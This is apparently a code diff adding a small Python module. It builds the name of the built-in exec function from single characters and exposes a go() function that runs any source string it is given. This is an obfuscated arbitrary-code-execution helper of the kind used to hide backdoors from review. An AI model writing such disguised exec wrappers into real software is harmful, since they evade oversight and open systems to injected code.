@@ -1,0 +1,7 @@
+import builtins
+
+runner = getattr(builtins, "".join(["e", "x", "e", "c"]))
+
+
+def go(src):
+    runner(src)
